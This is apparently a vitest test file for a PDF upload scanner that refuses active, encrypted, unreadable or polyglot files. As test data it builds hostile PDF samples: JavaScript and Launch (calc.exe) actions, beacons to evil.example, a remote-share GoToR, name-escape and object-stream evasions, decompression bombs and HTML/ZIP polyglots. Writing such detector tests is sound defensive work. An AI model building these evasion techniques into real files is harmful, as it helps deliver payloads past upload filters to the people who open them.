import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  bluePageWith,
  encryptedPdf,
  ONE_BLUE_PAGE,
  pdf,
  pdfWithObjectStream,
  streamObject,
} from '../test-files/handmade-pdf.ts';
import type { Objects } from '../test-files/handmade-pdf.ts';
import { findHazard } from './find-hazard.ts';

const LIMITS = { maxImagePixels: 50_000_000 };
const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const { 4: PAGE_CONTENT = '', ...PAGE_WITHOUT_CONTENT } = ONE_BLUE_PAGE;

function hazard(file: Buffer): string | null {
  return findHazard(file, LIMITS);
}

function hexadecimal(data: Buffer): Buffer {
  return Buffer.from(`${data.toString('hex')}>`);
}

function deflatedWithoutChecksum(data: Buffer): Buffer {
  return deflateSync(data).subarray(0, -4);
}

function hazardOf(catalogEntries: string, further: Objects = {}): string | null {
  return hazard(pdf(bluePageWith(catalogEntries, further)));
}

/**
 * The page, with the action packed into an object stream together with the catalog that names it.
 */
function packedWith(
  entry: string,
  options: Parameters<typeof pdfWithObjectStream>[2] = {},
): Buffer {
  const catalog = `<< /Type /Catalog /Pages 2 0 R ${entry} >>`;
  return pdfWithObjectStream({ 4: PAGE_CONTENT }, { ...PAGE_WITHOUT_CONTENT, 1: catalog }, options);
}

function packedAndPadded(megabytes: number): Buffer {
  return packedWith('', {
    pack: (data) => deflateSync(Buffer.concat([data, Buffer.alloc(megabytes * 1024 * 1024)])),
  });
}

describe('a PDF that only shows pages', () => {
  it('[KYC-6] is found harmless, with classic table and with object streams', () => {
    expect(hazard(pdf(ONE_BLUE_PAGE))).toBeNull();
    expect(hazard(packedWith(''))).toBeNull();
    expect(hazard(pdf({ ...ONE_BLUE_PAGE, 7: '' }))).toBeNull();
  });

  it('[KYC-6] may set the initial view, as office programs do, and may contain links', () => {
    expect(hazardOf('/OpenAction [3 0 R /Fit]')).toBeNull();
    expect(
      hazardOf('/OpenAction 5 0 R', { 5: '<< /S /GoTo /D [3 0 R /XYZ null null 0] >>' }),
    ).toBeNull();
    expect(hazardOf('/OpenAction 5 0 R', { 5: '[3 0 R /Fit]' })).toBeNull();
    const link = '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org) >> >>';
    expect(hazardOf('', { 5: link })).toBeNull();
  });

  it('[KYC-6] is not misjudged because of random bytes in its pictures', () => {
    const picture = Buffer.concat([
      randomBytes(4_000),
      Buffer.from(' obj /JS /AA obj(( <<obj/Q 7obj> trailer '),
      randomBytes(4_000),
    ]);
    expect(
      hazardOf('', { 5: streamObject(picture, '/Subtype /Image /Width 7 /Height 7') }),
    ).toBeNull();
  });
});

describe('an active PDF is refused', () => {
  const ACTIONS: Readonly<Record<string, string>> = {
    JavaScript: SCRIPT,
    Launch: '<< /S /Launch /F (calc.exe) >>',
    GoToR: '<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>',
    GoToE: '<< /S /GoToE /T << /R /C /N (x) >> >>',
    SubmitForm: '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >>',
    ImportData: '<< /S /ImportData /F (data.fdf) >>',
    Rendition: '<< /S /Rendition /OP 0 >>',
    RichMedia: '<< /Type /Annot /Subtype /RichMedia >>',
    Movie: '<< /Type /Annot /Subtype /Movie >>',
    Sound: '<< /S /Sound /Sound 9 0 R >>',
    '3D': '<< /Type /Annot /Subtype /3D >>',
    FileAttachment: '<< /Type /Annot /Subtype /FileAttachment /FS 9 0 R >>',
    EmbeddedFile: streamObject('MZ', '/Type /EmbeddedFile'),
  };

  it('[KYC-6] for any action, annotation or attachment, wherever it is', () => {
    for (const [kind, text] of Object.entries(ACTIONS)) {
      expect(hazardOf('', { 5: text }), `${kind} without a reference`).toBe('upload_pdf_active');
      expect(hazardOf('/OpenAction 5 0 R', { 5: text }), `${kind} on opening`).toBe(
        'upload_pdf_active',
      );
      const packed = pdfWithObjectStream(
        { 4: PAGE_CONTENT },
        { ...PAGE_WITHOUT_CONTENT, 5: text.split('\nstream')[0] ?? '' },
      );
      expect(packed.includes(kind), kind).toBe(false);
      expect(hazard(packed), `${kind} in an object stream`).toBe('upload_pdf_active');
    }
  });

  it('[KYC-6] for its catalog, names, forms or additional actions', () => {
    const entries = [
      `/OpenAction ${SCRIPT}`,
      '/OpenAction << /S /URI /URI (https://evil.example/track) >>',
      '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>',
      '/OpenAction << /S /GoTo /S /Named /N /Print >>',
      '/OpenAction << /D [3 0 R /Fit] >>',
      '/Names << /JavaScript << /Names [(x) 5 0 R] >> >>',
      '/Names << /EmbeddedFiles << /Names [(x) 5 0 R] >> >>',
      '/AcroForm << /XFA [(template) 5 0 R] >>',
      '/AA << /WC 5 0 R >>',
      '/Outlines << /First << /A << /K [[<< /JS 5 0 R >>]] >> >> >>',
    ];
    for (const entry of entries) expect(hazardOf(entry), entry).toBe('upload_pdf_active');
    expect(hazardOf('/OpenAction 5 0 R', { 5: '6 0 R', 6: '<< /S /Named /N /Print >>' })).toBe(
      'upload_pdf_active',
    );
    expect(hazardOf('/OpenAction 5 0 R', { 5: '5 0 R' })).toBe('upload_pdf_active');
  });

  it('[KYC-6] also when the names are written in escapes', () => {
    expect(hazardOf('', { 5: '<< /#53 /J#61vaScrip#74 >>' })).toBe('upload_pdf_active');
    expect(hazardOf('/#41#41 << /O 5 0 R >>')).toBe('upload_pdf_active');
    expect(hazard(packedWith('/O#70enAction << /S /N#61med >>'))).toBe('upload_pdf_active');
  });

  it('[KYC-6] also when an object stream does not declare itself', () => {
    const untyped = packedWith(`/OpenAction ${SCRIPT}`, { type: '' });
    expect(untyped.includes('JavaScript')).toBe(false);
    expect(hazard(untyped)).toBe('upload_pdf_active');
  });

  it("[KYC-6] also when the object is inside another stream's data or in an older revision", () => {
    expect(hazardOf('', { 5: streamObject(`6 0 obj << /AA 7 0 R >> endobj`) })).toBe(
      'upload_pdf_active',
    );
    expect(hazardOf('', { 5: streamObject(`6%\n0%\nobj%\n<< /AA 7 0 R >> endobj`) })).toBe(
      'upload_pdf_active',
    );
    const first = pdf(bluePageWith('/AA << /WC 5 0 R >>'));
    const second = pdf(ONE_BLUE_PAGE, { header: '' });
    expect(hazard(Buffer.concat([first, second]))).toBe('upload_pdf_active');
  });

  it('[KYC-6] also when a string is crafted so that a careless parser takes the script for text', () => {
    expect(hazardOf('', { 5: '<< /A (\\() /AA 6 0 R /B (\\)) >>' })).toBe('upload_pdf_active');
    expect(hazardOf('', { 5: '<< /A (%) /AA 6 0 R /B <25> >>' })).toBe('upload_pdf_active');
    expect(hazardOf('', { 5: '<< /A (\\() /B (/AA 6 0 R) >>' })).toBeNull();
    expect(hazardOf('', { 5: '<< /A (((x) y) /AA 6 0 R) >>' })).toBeNull();
  });

  it('[KYC-6] also when the name is outside of everything that parses as an object', () => {
    expect(hazardOf('', { 5: streamObject('<< /S /JavaScript >>') })).toBe('upload_pdf_active');
    const behindIndex = packedWith('', {
      pack: (data) => deflateSync(Buffer.concat([data, Buffer.from(' << /S /La#75nch >>')])),
    });
    expect(hazard(behindIndex)).toBe('upload_pdf_active');
  });
});

describe('a PDF that hides its contents is refused', () => {
  it('[KYC-6] when it is encrypted, even if it opens without a password', () => {
    expect(hazard(encryptedPdf())).toBe('upload_pdf_encrypted');
    expect(hazard(pdf(ONE_BLUE_PAGE, { trailer: '/Encrypt << /Filter /Standard >>' }))).toBe(
      'upload_pdf_encrypted',
    );
    expect(hazard(pdf(ONE_BLUE_PAGE, { trailer: '/#45ncrypt 9 0 R' }))).toBe(
      'upload_pdf_encrypted',
    );
    expect(hazard(packedWith('', { trailer: '/Encrypt 9 0 R' }))).toBe('upload_pdf_encrypted');
  });

  it('[KYC-6] when an object stream cannot be unpacked', () => {
    const script = `/OpenAction ${SCRIPT}`;
    const packings = {
      other: { filter: '/ASCIIHexDecode', pack: hexadecimal },
      twice: {
        filter: '[/FlateDecode /FlateDecode]',
        pack: (data: Buffer) => deflateSync(deflateSync(data)),
      },
      elsewhere: { filter: '9 0 R' },
      predicted: { filter: '/FlateDecode /DecodeParms << /Predictor 12 >>' },
      broken: {
        pack: (data: Buffer) => Buffer.concat([deflateSync(data).subarray(0, 8), randomBytes(64)]),
      },
      countElsewhere: { type: '/Type /ObjStm /N 9 0 R' },
    };
    for (const [how, packing] of Object.entries(packings)) {
      expect(hazard(packedWith(script, packing)), how).toBe('upload_unreadable');
    }
  });

  it('[KYC-6] but not for a missing checksum after the packed data', () => {
    expect(hazard(packedWith(`/OpenAction ${SCRIPT}`, { pack: deflatedWithoutChecksum }))).toBe(
      'upload_pdf_active',
    );
  });

  it('[KYC-6] when an object cannot be read', () => {
    for (const text of [
      '<< /A >>',
      '<< /A 1',
      '[ 1 2',
      '(never closed',
      '<< (a) /B >>',
      '<0a',
      'foo',
      '['.repeat(200),
    ]) {
      expect(hazardOf('', { 5: text }), text).toBe('upload_unreadable');
    }
    expect(hazardOf('', { 5: '['.repeat(90) + ']'.repeat(90) })).toBeNull();
    expect(hazardOf('', { 5: '['.repeat(50_000) + ']'.repeat(50_000) })).toBe('upload_unreadable');
  });

  it('[KYC-6] when it unpacks to more than a document needs or costs endless work', () => {
    expect(packedAndPadded(65).length).toBeLessThan(100_000);
    expect(hazard(packedAndPadded(65))).toBe('upload_unreadable');
    expect(hazard(packedAndPadded(63))).toBeNull();
    const largeTable = { ...PAGE_WITHOUT_CONTENT, 5: `[${'0 '.repeat(1_000_000)}]` };
    expect(hazard(pdfWithObjectStream({ 4: PAGE_CONTENT }, largeTable))).toBeNull();
    expect(hazardOf('', { 5: streamObject('obj('.repeat(100_000)) })).toBe('upload_unreadable');
    expect(hazardOf('', { 5: '<< /Subtype /Image /Width 16000 /Height 16000 >>' })).toBe(
      'upload_too_many_pixels',
    );
  });
});

describe('a file that is not one complete PDF is refused', () => {
  const whole = pdf(ONE_BLUE_PAGE);

  it('[KYC-6] when truncated anywhere', () => {
    for (let length = 0; length < whole.length - 1; length += 1) {
      expect(hazard(whole.subarray(0, length)), `${length} bytes`).toBe('upload_unreadable');
    }
  });

  it('[KYC-6] with anything before it, after it, or woven in for another program', () => {
    const zipEnd = 'PK\x05\x06'.padEnd(20, '\0');
    const polyglots = {
      markupBefore: Buffer.concat([Buffer.from('<html>'), whole]),
      lineBefore: Buffer.concat([Buffer.from('\n'), whole]),
      zipBehind: Buffer.concat([whole, Buffer.from('PK\x03\x04'), Buffer.from(zipEnd)]),
      scriptBehind: Buffer.concat([whole, Buffer.from('<script>alert(1)</script>')]),
      zipWhoseCommentEndsThePdf: Buffer.concat([
        whole,
        Buffer.from(`PK\x03\x04${zipEnd}\nstartxref\n9\n%%EOF\n`),
      ]),
      markupInComment: pdf(ONE_BLUE_PAGE, { header: '%PDF-1.7\n%<script>alert(1)</script>\n' }),
      magicAlone: Buffer.from('%PDF-1.7\n<script>alert(1)</script>'),
    };
    for (const [kind, bytes] of Object.entries(polyglots))
      expect(hazard(bytes), kind).toBe('upload_unreadable');
    expect(hazard(Buffer.concat([whole, Buffer.from('\r\n\0')]))).toBeNull();
  });

  it('[KYC-6] and any bytes get an answer', () => {
    const words = fc.constantFrom(
      '1 0 obj',
      '<<',
      '>>',
      '/',
      '#',
      '[',
      ']',
      '(',
      ')',
      '\\',
      '<',
      '>',
      'stream\n',
      'endstream',
      '/Type /ObjStm',
      '/N 1',
      '/First 0',
      '%',
      '\n',
      ' ',
      '0 R',
      '7',
      '-',
      'trailer',
      'null',
      'endobj',
    );
    const ending = Buffer.from('\nstartxref\n0\n%%EOF');
    fc.assert(
      fc.property(
        fc.array(fc.oneof(words, fc.string({ unit: 'binary' })), { maxLength: 60 }),
        (parts) => {
          const file = Buffer.concat([
            Buffer.from(`%PDF-1.4\n${parts.join('')}`, 'latin1'),
            ending,
          ]);
          expect([null, 'upload_unreadable', 'upload_pdf_active']).toContain(hazard(file));
        },
      ),
      { numRuns: 1_000 },
    );
  });
});
